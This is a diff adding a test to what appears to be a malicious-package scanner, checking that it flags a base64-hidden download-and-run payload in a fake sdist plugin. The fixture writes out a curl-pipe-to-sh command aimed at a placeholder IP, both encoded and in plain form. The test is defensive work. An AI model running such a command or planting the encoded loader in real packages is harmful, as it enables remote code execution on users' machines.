@@ -203,3 +203,26 @@ def test_clipboard_hijack_from_the_features_evidence() -> None:
     archive = open_archive(sdist({"demo/watch.py": honest}), target="d", filename="demo-1.0.tar.gz")
     features = extract_features(archive)
     assert feature_findings(features) == () and token_findings(features.code_text) == ()
+
+
+def test_hidden_payload_from_the_features_evidence() -> None:
+    import base64
+
+    from vetpy.features.extract import extract_features
+    from vetpy.policy import feature_findings, policy_reasons, token_findings
+
+    cradle = base64.b64encode(b"curl -s http://203.0.113.9/x.sh | sh")
+    plugin = b"import os, base64\n\n\ndef update():\n    os.system(base64.b64decode('" + cradle + b"'))\n"
+    archive = open_archive(sdist({"demo/plugin.py": plugin}), target="d", filename="demo-1.0.tar.gz")
+    features = extract_features(archive)
+    [finding] = feature_findings(features)
+    assert token_findings(features.code_text) == ("hidden_payload",)  # what the lab reads from the cache
+    assert (finding.kind, finding.file, finding.line) == ("hidden_payload", "demo-1.0/demo/plugin.py", 5)
+    assert "download-and-run" in finding.message
+    [reason] = policy_reasons((finding,))
+    assert reason.feature == "policy.hidden_payload" and reason.line == 5
+    # the same command written as it is: the model judges it, no finding
+    plain = b"import os\n\n\ndef update():\n    os.system('curl -s http://203.0.113.9/x.sh | sh')\n"
+    archive = open_archive(sdist({"demo/plugin.py": plain}), target="d", filename="demo-1.0.tar.gz")
+    features = extract_features(archive)
+    assert feature_findings(features) == () and token_findings(features.code_text) == ()
